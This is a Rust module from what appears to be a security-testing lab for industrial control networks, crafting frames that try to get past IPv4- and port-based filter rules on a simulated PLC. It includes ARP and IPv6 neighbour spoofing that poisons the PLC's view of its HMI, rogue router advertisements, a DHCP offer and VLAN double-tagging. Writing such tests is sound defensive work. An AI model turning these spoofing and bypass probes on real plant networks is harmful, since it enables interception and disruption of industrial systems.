//! Attack 4: around every rule that thinks in IPv4 addresses and ports.

use super::Target;
use super::packet::{
    ARP, GOOSE, MAC_IN_MAC, PROFINET, Route, SERVICE_VLAN, SYN, VLAN, arp, ethernet, tagged,
};
use super::probe::{self, Finding, Findings, Probe};
use super::wire::Wire;
use crate::plant::{Addresses, addresses_of};
use anyhow::Result;
use nullius_model::Mac;
use std::net::{Ipv4Addr, Ipv6Addr};

/// What every frame without addresses of its own carries, so that it is found again.
const MARK: &[u8] = b"nullius lab: around";
/// Group addresses: GOOSE (IEC 61850-8-1, annex B), all nodes of IPv6, PROFINET discovery.
const GOOSE_GROUP: Mac = Mac::new([0x01, 0x0c, 0xcd, 0x01, 0x00, 0x01]);
const ALL_NODES_MAC: Mac = Mac::new([0x33, 0x33, 0, 0, 0, 1]);
const PROFINET_GROUP: Mac = Mac::new([0x01, 0x0e, 0xcf, 0, 0, 0]);
const ALL_NODES: Ipv6Addr = Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 1);
/// Types of ICMPv6.
const ECHO: u8 = 128;
const ROUTER_ADVERTISEMENT: u8 = 134;
const NEIGHBOUR_ADVERTISEMENT: u8 = 136;

pub(super) fn run(target: &Target<'_>) -> Result<Findings> {
    let mut found = probe::run(target.status, "attacker", "plc1", &probes()?)?;
    found.of_probes.push(poisoned(target, &Actors::find()?)?);
    Ok(found)
}

pub(super) fn probes() -> Result<Vec<Probe>> {
    let actors = Actors::find()?;
    Ok([link_local(&actors), raw(&actors), spoofs(&actors), rogues(&actors), tags(&actors)].concat())
}

/// What the victim believes afterwards.
fn poisoned(target: &Target<'_>, actors: &Actors) -> Result<Finding> {
    let table = Wire::neighbours(target.status, "plc1")?;
    let (address, mac) = (format!("{} ", actors.panel.v4), actors.attacker.mac.to_string());
    let believed = table.lines().any(|line| line.starts_with(&address) && line.contains(&mac));
    let what = "plc1 believes that the panel is the attacker".to_owned();
    Ok(Finding { what, sent: 1, arrived: usize::from(believed), held: !believed })
}

struct Actors {
    attacker: Addresses,
    victim: Addresses,
    panel: Addresses,
}

impl Actors {
    fn find() -> Result<Self> {
        Ok(Self {
            attacker: addresses_of("attacker")?,
            victim: addresses_of("plc1")?,
            panel: addresses_of("hmi")?,
        })
    }

    fn local_route(&self) -> Route {
        Route {
            from: self.attacker.mac,
            to: self.victim.mac,
            source: self.attacker.link_local().into(),
            destination: self.victim.link_local().into(),
        }
    }

    fn v4_route(&self, to: Mac, destination: Ipv4Addr) -> Route {
        Route {
            from: self.attacker.mac,
            to,
            source: self.attacker.v4.into(),
            destination: destination.into(),
        }
    }
}

fn link_local(actors: &Actors) -> Vec<Probe> {
    let route = actors.local_route();
    vec![
        Probe::whole("SYN to Modbus over IPv6 link-local", route.tcp((47_111, 502), SYN, 7, &[])),
        Probe::whole("ICMPv6 echo over link-local", route.icmpv6(ECHO, &[0x4e, 0x55, 0, 1])),
    ]
}

fn raw(actors: &Actors) -> Vec<Probe> {
    let (from, victim) = (actors.attacker.mac, actors.victim.mac);
    let cases = [
        ("GOOSE to its group", GOOSE_GROUP, GOOSE),
        ("GOOSE to the victim alone", victim, GOOSE),
        ("PROFINET to its group", PROFINET_GROUP, PROFINET),
        ("PROFINET to the victim alone", victim, PROFINET),
        ("an ethertype nobody has (0x88b5)", victim, 0x88b5),
        ("MAC-in-MAC", victim, MAC_IN_MAC),
        ("802.2 LLC", victim, 0x0040),
    ];
    let probe = |(what, to, ethertype): (&str, Mac, u16)| {
        let payload = [MARK, &ethertype.to_be_bytes(), &to.octets()].concat();
        Probe::marked(what, ethernet(from, to, ethertype, &payload), &payload)
    };
    cases.map(probe).to_vec()
}

fn spoofs(actors: &Actors) -> Vec<Probe> {
    let Actors { attacker, victim, panel } = actors;
    let claim = (attacker.mac, panel.v4);
    let reply = arp(2, claim, (victim.mac, victim.v4));
    let gratuitous = arp(1, claim, (Mac::NONE, panel.v4));
    // solicited and override, the target, its new hardware address
    let body = [&[0x60, 0, 0, 0][..], &panel.v6.octets(), &[2, 1], &attacker.mac.octets()].concat();
    let route = Route { source: panel.v6.into(), destination: victim.v6.into(), ..actors.local_route() };
    vec![
        Probe::marked("ARP reply: the panel is me", ethernet(attacker.mac, victim.mac, ARP, &reply), &reply),
        Probe::marked(
            "gratuitous ARP: the panel is me",
            ethernet(attacker.mac, Mac::BROADCAST, ARP, &gratuitous),
            &gratuitous,
        ),
        Probe::whole(
            "neighbour advertisement: the panel is me",
            route.icmpv6(NEIGHBOUR_ADVERTISEMENT, &body),
        ),
    ]
}

fn rogues(actors: &Actors) -> Vec<Probe> {
    let router = Route { to: ALL_NODES_MAC, destination: ALL_NODES.into(), ..actors.local_route() };
    // hop limit 64, a router for half an hour
    let advertisement =
        [&[64, 0, 0x07, 0x08, 0, 0, 0, 0, 0, 0, 0, 0, 1, 1][..], &actors.attacker.mac.octets()].concat();
    let offer = actors.v4_route(Mac::BROADCAST, Ipv4Addr::BROADCAST);
    let offer = offer.udp((67, 68), &[&[2, 1, 6, 0][..], MARK, b" DHCP"].concat());
    let query = actors.v4_route(Mac::new([1, 0, 0x5e, 0, 0, 0xfb]), Ipv4Addr::new(224, 0, 0, 251));
    let query = query.udp((5353, 5353), &[&[0; 12][..], MARK, b" mDNS"].concat());
    vec![
        Probe::whole("router advertisement", router.icmpv6(ROUTER_ADVERTISEMENT, &advertisement)),
        Probe::marked("DHCP offer", offer, b"around DHCP"),
        Probe::marked("multicast DNS", query, b"around mDNS"),
    ]
}

/// The victim's kernel would throw tagged frames away; a device that reads its tags would not.
fn tags(actors: &Actors) -> Vec<Probe> {
    let route = actors.v4_route(actors.victim.mac, actors.victim.v4);
    let syn = |source: u16| route.tcp((source, 502), SYN, 9, &[]);
    let (one, two, ad) = (syn(47_112), syn(47_113), syn(47_114));
    let inside = |frame: &[u8]| frame.get(14..54).unwrap_or_default().to_vec();
    vec![
        Probe::marked("SYN to Modbus with an 802.1Q tag", tagged(&one, VLAN, 0), &inside(&one)),
        Probe::marked(
            "SYN to Modbus with two 802.1Q tags",
            tagged(&tagged(&two, VLAN, 1), VLAN, 1),
            &inside(&two),
        ),
        Probe::marked("SYN to Modbus with an 802.1ad tag", tagged(&ad, SERVICE_VLAN, 1), &inside(&ad)),
    ]
}
